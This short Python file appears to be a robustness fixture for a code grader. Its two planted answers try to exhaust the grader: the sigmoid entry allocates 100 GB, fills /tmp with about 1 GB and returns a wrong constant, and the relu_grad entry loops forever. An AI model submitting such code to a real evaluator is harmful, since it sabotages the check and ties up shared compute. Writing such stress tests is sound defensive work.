"""Exhaust the grader: allocate 100 GB, fill the disk, then loop forever in a later call."""
ANSWERS = {
    "sigmoid": '''
try:
    _hog = bytearray(100 * 1024 ** 3)
except MemoryError:
    pass
try:
    with open("/tmp/fill", "wb") as _f:
        for _ in range(1024):
            _f.write(b"x" * 1024 ** 2)
except OSError:
    pass
def sigmoid(x):
    return np.zeros_like(np.asarray(x, dtype=float)) + 0.3
''',
    "relu_grad": '''
def relu_grad(x):
    while True:
        pass
''',
}
